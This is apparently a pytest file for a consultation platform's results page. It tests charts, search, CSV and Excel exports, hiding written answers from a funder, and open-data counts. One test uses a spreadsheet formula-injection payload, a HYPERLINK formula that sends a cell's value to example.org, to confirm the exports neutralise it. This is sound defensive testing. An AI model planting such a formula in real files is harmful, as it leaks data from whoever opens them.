"""A form's results out of the page: charts, search, CSV and Excel, and open data."""

import csv
import io

from openpyxl import load_workbook

from coproduce.consultations.models import Questionnaire, ResponseChannel
from coproduce.consultations.services import paper_response_enter, questionnaire_close
from coproduce.core.spreadsheets import safe_cell
from tests.conftest import World
from tests.consultations.conftest import NO, YES, client_for, key


def enter(world: World, questionnaire: Questionnaire, n: int, *, why: str = "") -> None:
    raw = {
        key(questionnaire, "The talk was interesting"): str(1 + n % 5),
        key(questionnaire, "Would you come again?"): NO if why else YES,
        key(questionnaire, "What talks would you like?"): f"Local history {n}",
    }
    if why:
        raw[key(questionnaire, "Why not?")] = why
    paper_response_enter(
        questionnaire=questionnaire,
        raw=raw,
        channel=ResponseChannel.PAPER,
        entry_key=f"export-entry-{n:06d}",
        recorded_by=world.users["staff of A"],
    )


def test_the_results_page_charts_counted_questions_and_searches_written_answers(
    world: World, questionnaire: Questionnaire
) -> None:
    for n in range(3):
        enter(world, questionnaire, n, why="Too far to walk" if n == 0 else "")
    client = client_for(world, "staff of A")
    url = f"/consultations/manage/{questionnaire.pk}/results/"
    page = client.get(url).content.decode()
    assert page.count("<svg") == 2  # agreement and "come again"
    assert "The numbers: The talk was interesting" in page
    found = client.get(url, {"q": "history 2"}).content.decode()
    assert "Local history 2" in found
    assert "Local history 1" not in found
    nothing = client.get(url, {"q": "parking"}).content.decode()
    assert "No written answer contains “parking”." in nothing


def test_staff_download_every_response_without_references(
    world: World, questionnaire: Questionnaire
) -> None:
    enter(world, questionnaire, 0, why="Too far to walk")
    enter(world, questionnaire, 1)
    staff = client_for(world, "staff of A")
    csv = staff.get(f"/consultations/manage/{questionnaire.pk}/responses.csv").content.decode()
    header, first, second = csv.splitlines()
    assert header.startswith("Response,Submitted,Channel,")
    assert first.startswith("1,")
    assert "Paper" in first
    assert "Too far to walk" in first
    assert "Local history 1" in second
    book = load_workbook(
        io.BytesIO(staff.get(f"/consultations/manage/{questionnaire.pk}/responses.xlsx").content)
    )
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert len(rows) == 3
    # A commissioner funding the service gets the rows without the written answers.
    funder = client_for(world, "commissioner").get(
        f"/consultations/manage/{questionnaire.pk}/responses.csv"
    )
    assert "Too far to walk" not in funder.content.decode()
    assert "(not shown)" in funder.content.decode()
    assert staff.get(f"/consultations/manage/{questionnaire.pk}/responses.pdf").status_code == 404


FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'


def test_an_answer_typed_as_a_formula_stays_text_in_the_csv_and_the_workbook(
    world: World, questionnaire: Questionnaire
) -> None:
    enter(world, questionnaire, 0, why=FORMULA)
    enter(world, questionnaire, 1, why="-3 miles away")
    staff = client_for(world, "staff of A")
    url = f"/consultations/manage/{questionnaire.pk}/responses"
    cells = [cell for row in csv.reader(io.StringIO(staff.get(f"{url}.csv").content.decode()))
             for cell in row]  # fmt: skip
    assert f"'{FORMULA}" in cells
    assert "'-3 miles away" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "-", "+", "@"))]
    book = load_workbook(io.BytesIO(staff.get(f"{url}.xlsx").content))
    sheet_cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    typed = [cell for cell in sheet_cells if cell.value == FORMULA]
    assert typed, "the answer is in the workbook as it was typed"
    assert all(cell.data_type == "s" for cell in typed)
    assert not [cell for cell in sheet_cells if cell.data_type == "f"]


def test_a_number_in_a_csv_is_not_quoted() -> None:
    assert [safe_cell(v) for v in ("-3", "+1.5", "-12.5%", "1,200", "-", "=1")] == [
        "-3",
        "+1.5",
        "-12.5%",
        "1,200",
        "'-",
        "'=1",
    ]


def test_a_closed_forms_counts_are_open_data_when_enough_people_answered(
    world: World, questionnaire: Questionnaire
) -> None:
    url = f"/consultations/f/{questionnaire.code}/open-data.json"
    for n in range(9):
        enter(world, questionnaire, n)
    anyone = client_for(world, "anonymous")
    assert anyone.get(url).status_code == 404  # still open
    questionnaire_close(
        questionnaire=questionnaire, closed=True, changed_by=world.users["staff of A"]
    )
    few = anyone.get(url).json()
    assert few["responses"] == 9
    assert all(question["counts"] is None for question in few["questions"])
    questionnaire_close(
        questionnaire=questionnaire, closed=False, changed_by=world.users["staff of A"]
    )
    enter(world, questionnaire, 9)
    questionnaire_close(
        questionnaire=questionnaire, closed=True, changed_by=world.users["staff of A"]
    )
    data = anyone.get(url).json()
    come_again = next(q for q in data["questions"] if q["question"] == "Would you come again?")
    assert come_again["counts"][0] == {"answer": "Yes", "people": 10}
    assert "Local history" not in str(data)
